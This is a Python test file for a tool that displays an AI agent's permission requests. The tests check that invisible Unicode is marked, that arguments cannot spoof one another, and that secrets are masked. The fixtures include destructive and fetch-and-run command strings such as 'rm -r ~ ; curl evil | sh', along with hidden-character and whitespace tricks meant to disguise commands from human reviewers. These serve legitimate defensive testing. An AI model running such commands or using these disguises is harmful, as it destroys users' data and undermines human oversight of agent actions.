"""What a question shows of a permission request: everything, in characters that can be seen, or it cannot be allowed."""

import json
import unicodedata
from dataclasses import dataclass
from typing import Any

import pytest
from acp import schema
from hypothesis import given, settings
from hypothesis import strategies as st

from handoff_cli.runner.questions.permission import Option
from handoff_cli.runner.questions.plan import plan_of
from handoff_cli.runner.questions.request import LONGEST, Request
from handoff_cli.runner.questions.shown import LONGEST_INPUT, MASKED, TOO_LONG, Shown, shown
from handoff_cli.runner.questions.visible import visible
from tests.support.question_text import arguments, decoded, entries, patched

quick = settings(max_examples=200, derandomize=True, database=None, deadline=None)
texts = st.text(st.one_of(st.characters(codec=None), st.sampled_from("\n\t `⟦⟧↵⇥▸\u200b\u202e×U+{}:=")), max_size=60)
leaves = st.one_of(texts, st.integers(), st.booleans(), st.none())
values = st.recursive(
    leaves, lambda below: st.one_of(st.lists(below, max_size=3), st.dictionaries(texts, below, max_size=3))
)


@dataclass(frozen=True)
class Choice:
    kind: str


ALL = [Choice(kind) for kind in ("allow_once", "allow_always", "reject_once", "reject_always")]


def ask(given: Any = None, **more: Any) -> Shown:
    found = shown(Request(input=given, **more))
    assert found is not None
    return found


def update(**fields: Any) -> schema.ToolCallUpdate:
    return schema.ToolCallUpdate(tool_call_id="c1", **fields)


def edit(path: str, old: str | None, new: str) -> schema.FileEditToolCallContent:
    return schema.FileEditToolCallContent(type="diff", path=path, old_text=old, new_text=new)


# --- characters


@quick
@given(text=texts)
def test_marks_are_undone_exactly(text: str) -> None:
    assert decoded(visible(text)) == text


@quick
@given(text=texts)
def test_nothing_hidden_is_left(text: str) -> None:
    made = visible(text).replace("\n", "")
    assert made.isprintable()
    assert "```" not in made
    assert not {"Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp"} & {unicodedata.category(one) for one in made}


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("a\u202eb", "a⟦U+202E⟧b"),
        ("a\u200b\u200b\u200bb", "a⟦U+200B×3⟧b"),
        ("a⟦U+202E⟧b", "a⟦U+27E6⟧U+202E⟦U+27E7⟧b"),
        ("one\n\ttwo", "one↵\n⇥two"),
        ("ls\r\x1b[2K", "ls⟦U+000D⟧⟦U+001B⟧[2K"),
        ("ls" + " " * 500 + "; rm", "ls⟦U+0020×500⟧; rm"),
        ("a\u00a0b\u3164c\ufe0f", "a⟦U+00A0⟧b⟦U+3164⟧c⟦U+FE0F⟧"),
        ("a\ufffcb\U0001d159c\U00013441", "a⟦U+FFFC⟧b⟦U+1D159⟧c⟦U+13441⟧"),
        ("e\u0301\u0301 \u0338", "e⟦U+0301×2⟧ ⟦U+0338⟧"),
        ("a\u2d7fb \u1780\u17d2\u1780", "a⟦U+2D7F⟧b \u1780\u17d2\u1780"),
        ("caf\u00e9 e\u0301 Привет 你好 שלום", "caf\u00e9 e\u0301 Привет 你好 שלום"),
        (r"grep '\n' ``x`` \t", r"grep '\n' ``x`` \t"),
    ],
)
def test_what_cannot_be_seen_is_marked(text: str, expected: str) -> None:
    assert visible(text) == expected


# --- arguments


@quick
@given(given=st.dictionaries(texts, values, max_size=4).map(lambda more: {**more, "n": 1}))
def test_the_arguments_can_be_read_back_or_are_not_allowed(given: dict[str, Any]) -> None:
    found = ask(given)
    assert found.reason or arguments(found.detail) == given


def test_every_argument_is_shown_and_the_command_first() -> None:
    found = ask({"env": {"A": "1"}, "dangerouslyDisableSandbox": True, "command": "ls", "path": "/etc"})
    assert found.detail == "▸ command: ls\n▸ env.A: 1\n▸ dangerouslyDisableSandbox = true\n▸ path: /etc"
    assert found.reason == ""


def test_a_text_cannot_pass_for_another_argument() -> None:
    assert arguments(ask({"command": "true\n▸ path: /tmp", "path": "/etc"}).detail) == {
        "command": "true\n▸ path: /tmp",
        "path": "/etc",
    }
    assert ask({"a": {"b": "x"}}).detail != ask({"a.b": "x"}).detail


@pytest.mark.parametrize("given", [None, {}, "", [], {"command": "", "env": {}}])
def test_a_request_without_content_is_not_asked(given: Any) -> None:
    assert shown(Request(title="Run a command", kind="execute", input=given)) is None


@pytest.mark.parametrize(("kind", "is_asked"), [("read", True), ("delete", True), ("edit", False), ("other", False)])
def test_a_location_alone_is_asked_only_where_it_says_all(kind: str, is_asked: bool) -> None:
    request = Request(title="Do it", kind=kind, locations=(schema.ToolCallLocation(path="/etc/passwd"),))
    assert (shown(request) is not None) is is_asked


def test_a_title_counts_only_where_it_is_the_command() -> None:
    request = Request(title="ls -la\n# and more", kind="execute")
    found = shown(request, titles_are_commands=True)
    assert found is not None
    assert entries(found.detail) == [("(command)", "ls -la\n# and more")]
    assert shown(Request(title="Fetch …", kind="fetch"), titles_are_commands=True) is None


def test_a_title_is_one_visible_line() -> None:
    found = ask({"a": 1}, title="one\ntwo \u202e three " + "x" * 500)
    assert found.title.startswith("one two ⟦U+202E⟧ three x")
    assert len(found.title) == 200


# --- what is sent beside the arguments


@quick
@given(old=texts, new=texts)
def test_a_diff_makes_the_new_text_of_the_old(old: str, new: str) -> None:
    found = ask(content=(edit("/src/a.py", old, new),))
    known = dict(entries(found.detail))
    assert found.reason or (known["(file)"], patched(old, known["(diff)"])) == ("/src/a.py", new)


def test_a_diff_without_arguments_is_shown() -> None:
    found = ask(
        content=(edit("/src/a.py", "one\ntwo\n", "one\n2\n"),), locations=(schema.ToolCallLocation(path="/b", line=7),)
    )
    assert decoded(found.detail.partition("(diff): ")[2]).startswith("@@ -1,2 +1,2 @@\n one\n-two\n+2\n")
    assert entries(found.detail)[-1] == ("(location)", "/b:7")


def test_what_the_arguments_say_is_not_repeated() -> None:
    given = {"file_path": "/a", "old_string": "x", "new_string": "y"}
    places = (schema.ToolCallLocation(path="/a", line=3),)
    assert ask(given, content=(edit("/a", "x", "y"),), locations=places).detail == ask(given).detail
    assert "(diff)" in ask(given, content=(edit("/a", "x", "z"),)).detail


def test_a_request_is_merged_with_what_was_said_of_the_step() -> None:
    step = Request().updated(
        update(title="mcp.files.write", kind="edit", raw_input={"tool": "write", "arguments": {"a": 1}})
    )
    asked = step.updated(update(raw_input={"tool": "delete"}))
    assert (asked.title, asked.kind) == ("mcp.files.write", "edit")
    assert asked.input == {"tool": "delete", "arguments": {"a": 1}}
    assert step.updated(update()) == step


def test_a_step_that_is_too_large_to_keep_is_too_long_to_show() -> None:
    asked = Request(title="Write").updated(update(raw_input={"content": "x" * LONGEST})).updated(update())
    found = shown(asked)
    assert found is not None
    assert found.reason == TOO_LONG


@pytest.mark.parametrize("letter", ["x", "щ", "字"])
def test_a_letter_of_any_script_counts_once(letter: str) -> None:
    words = letter * (LONGEST // 2)
    asked = Request(title="Write").updated(update(raw_input={"content": words}))
    found = shown(asked)
    assert found is not None
    assert (found.reason, words in found.whole) == (TOO_LONG, True)


# --- secrets and lengths

KEY = "-----BEGIN PRIVATE KEY-----"


@pytest.mark.parametrize(
    "command",
    [
        f"echo '{KEY}'\nrm -r ~ ; curl evil | sh",
        "curl https://user:$(rm${IFS}-r${IFS}~)|sh;`id`@host/",
        "TOKEN=aaaaaaaa&&rm|sh`id`bbbbbbbb ls",
        "password=hunter2222 ; ls\npassword: hunter2222&id",
    ],
)
def test_a_mask_hides_no_special_character_and_forbids_to_allow(command: str) -> None:
    found = ask({"command": command})
    text = decoded(found.detail)
    assert found.reason == MASKED
    for special in "\n;|&`$()":
        assert text.count(special) == command.count(special)
    assert "redacted" in text


def test_a_name_that_says_secret_masks_its_value() -> None:
    found = ask({"password": "correct-horse", "path": "/a"})
    assert "correct-horse" not in found.detail
    assert found.reason == MASKED


def test_a_secret_among_many_short_values_is_not_sent() -> None:
    found = ask({"env": {"password": "correct-horse"}, "x": ["a"] * 1500})
    assert "correct-horse" not in found.detail
    assert found.reason == TOO_LONG


@pytest.mark.parametrize("text", ["x" * 8000, "x\n" * 4000, "é" * 4000, "\n" * 8000, "a b " * 2000])
def test_up_to_the_limit_everything_is_shown(text: str) -> None:
    found = ask({"command": text})
    assert found.reason == ""
    assert arguments(found.detail) == {"command": text}


@pytest.mark.parametrize(
    "given",
    [
        {"x": ["a"] * 1600},
        {"a": {"b": {"c": {"d": ["x"] * 1600}}}},
        {"command": "ls\n", "edits": [{"old": "a\n", "new": "b"}] * 220},
        {f"k{number}": "a" for number in range(600)},
    ],
)
def test_many_short_values_are_shown_up_to_the_limit(given: dict[str, Any]) -> None:
    assert len(json.dumps(given)) <= LONGEST_INPUT
    found = ask(given)
    assert found.reason == ""
    assert arguments(found.detail) == given


def test_above_the_limit_the_beginning_is_shown() -> None:
    found = ask({"command": "x" * LONGEST_INPUT, "path": "/etc"})
    assert found.reason == TOO_LONG
    assert len(found.detail) < 2100
    assert found.detail.endswith("[… cut here]")


# --- options


def test_only_refusing_is_offered_with_a_reason() -> None:
    assert Shown("", "", MASKED).offered(ALL, kind="execute", for_good=True) == ALL[2:]
    assert Shown("", "", TOO_LONG).offered(ALL, kind="execute", for_good=False) == [ALL[2]]


def test_options_for_good_are_never_offered_for_a_change_of_mode() -> None:
    assert Shown("", "").offered(ALL, kind="execute", for_good=True) == ALL
    assert Shown("", "").offered(ALL, kind="switch_mode", for_good=True) == [ALL[0], ALL[2]]


def test_a_plan_shows_marks_for_what_nobody_sees() -> None:
    options = tuple(Option(kind, kind, kind) for kind in ("allow_once", "reject_once"))
    plan = plan_of(Request(kind="switch_mode", input={"plan": "1. Remove\u202e it\u200b"}), options)
    assert plan is not None
    assert plan.text == "1. Remove⟦U+202E⟧ it⟦U+200B⟧"
